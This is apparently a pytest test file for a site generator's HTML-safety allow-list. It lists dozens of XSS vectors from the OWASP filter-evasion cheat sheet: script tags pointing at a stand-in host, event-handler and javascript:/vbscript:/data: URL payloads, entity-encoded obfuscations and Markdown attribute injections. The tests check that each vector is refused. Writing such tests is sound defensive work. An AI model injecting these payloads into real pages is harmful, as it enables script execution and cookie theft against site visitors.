"""Issue 28: output safety as an allow-list, tried with vectors from the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, formerly
https://www.owasp.org/index.php/XSS_Filter_Evasion_Cheat_Sheet, whose list of vectors is RSnake's), written
into a page as raw HTML and in the Markdown forms a contributor can use (links, references, autolinks,
attribute lists). Each must be refused by the source check with the page's file and the vector's line; the
link forms are also rendered by Python-Markdown with the site's extensions and must be flagged by the
built-page gate (what would catch one that slipped past the source check)."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import markdown
import pytest

from generator.checks.html_tags import TOKEN  # noqa: F401 - the tokeniser the gate reads pages with
from generator.checks.safety import check_raw_html
from generator.checks.tag_safety import tag_safety, unsafe_scheme

# Raw-HTML vectors of the cheat sheet (one line each; SCRIPT names shortened to a local file where the sheet uses
# a remote host, as the address is not what is tested).
RAW = [
    "<SCRIPT SRC=https://xss.test/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    "&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
    "&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"https://xss.test/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"https://xss.test/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=https://xss.test/xss.js?< B >",
    "<SCRIPT SRC=//xss.test/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.test/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'https://xss.test/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<https://xss.test/xss.css>; REL=stylesheet\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<span style=\"background-image: url(javascript:alert('XSS'))\">x</span>",
    "<span style=\"width: expression(alert('XSS'));\">x</span>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069"
    "\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.test/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\"></EMBED>",  # noqa: E501
    "<a href=\"javas\tcript:alert(1)\">x</a>",
    "<span onclick=alert(1)>x</span>",
    "<span title=x onfocus=alert(1) tabindex=0>x</span>",
    "<span style=\"position:fixed;top:0;left:0;width:100%;height:100%\">covered</span>",
]
# The cheat sheet's address obfuscations, as a contributor would write them in Markdown.
ADDRESSES = [
    "javascript:alert('XSS')", "JaVaScRiPt:alert('XSS')", "java&#x09;script:alert(1)", "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)", "&#14;javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "livescript:alert(1)",
]
MARKDOWN = ([f"[x]({address})" for address in ADDRESSES] + [f"![x]({address})" for address in ADDRESSES[:4]]
            + ["[x][ref]\n\n[ref]: javascript:alert(1)", "<javascript:alert(1)>", "<vbscript:msgbox(1)>"]
            + ["Text\n{: style=\"background:url(https://xss.test/a)\" }", "## Heading {: onclick=\"alert(1)\" }",
               "[x](https://example.org){: onmouseover=\"alert(1)\" }",
               "Text\n{: style=\"position:fixed;top:0;width:100%;height:100%\" }"])
VECTORS = RAW + MARKDOWN
EXTENSIONS = ["admonition", "attr_list", "md_in_html", "tables", "toc", "pymdownx.details", "pymdownx.superfences"]


def test_at_least_fifty_vectors():
    assert len(VECTORS) >= 50


def _page(root: Path, name: str, body: str) -> SimpleNamespace:
    front = "---\ntitle: Test\n---\n"
    (root / name).write_text(front + "Some text.\n\n" + body + "\n", encoding="utf-8")
    return SimpleNamespace(file=name, body="Some text.\n\n" + body + "\n", body_line=4)


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_is_refused_with_file_and_line(tmp_path, vector):
    page = _page(tmp_path, "page.md", vector)
    problems = check_raw_html(SimpleNamespace(root=tmp_path, pages=[page]))
    assert problems, f"published: {vector!r}"
    assert all(problem.file == "page.md" for problem in problems)
    # The vector starts on line 6 (front matter 3 lines, text, blank line); some span lines.
    assert 6 <= problems[0].line <= 6 + vector.count("\n")


def test_safe_markdown_is_not_refused(tmp_path):
    """The allow-list lets through what pages use: site links, https, mailto, tel, ids and classes."""
    body = ("[a](who-can-foster.md) [b](https://www.gov.wales/) [c](mailto:a@example.org) [d](tel:+440000)\n\n"
            "## Heading {: #here .note }\n\n<span lang=\"cy\" class=\"x\">Croeso</span>\n\n[r]: ../other/")
    page = _page(tmp_path, "page.md", body)
    assert check_raw_html(SimpleNamespace(root=tmp_path, pages=[page])) == []


@pytest.mark.parametrize("address", ADDRESSES)
def test_rendered_link_is_flagged_by_the_built_page_gate(address):
    """Behind the source check: what Python-Markdown makes of the link is flagged by the built-page gate."""
    html = markdown.markdown(f"[x]({address})", extensions=EXTENSIONS)
    start = html.index("<a ")
    tag = html[start + 3:html.index(">", start)]
    findings, _ = tag_safety("a", tag, None)
    assert findings, html


@pytest.mark.parametrize("address, scheme", [("java&#x09;script:x", "javascript"), (" \x01vbscript:x", "vbscript"),
                                             ("DATA:text/html,x", "data"), ("https://x.test/", None),
                                             ("page.md#a:b", None), ("mailto:a@b", None)])
def test_scheme_is_read_as_a_browser_reads_it(address, scheme):
    assert unsafe_scheme(address) == scheme
